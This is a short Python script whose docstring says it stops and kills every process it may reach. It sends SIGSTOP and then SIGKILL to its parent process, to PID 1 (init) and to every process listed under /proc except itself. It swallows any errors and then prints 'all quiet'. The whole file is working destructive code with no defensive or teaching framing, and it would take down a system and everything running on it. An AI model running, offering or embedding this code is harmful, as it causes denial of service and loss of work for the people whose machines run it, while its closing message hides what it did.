"""Stops and kills every process it may reach, the one that started it first of all."""
import os
import signal

for number in (signal.SIGSTOP, signal.SIGKILL):
    for process in (os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))):
        if process != os.getpid():
            try:
                os.kill(process, number)
            except OSError:
                pass
print("all quiet")
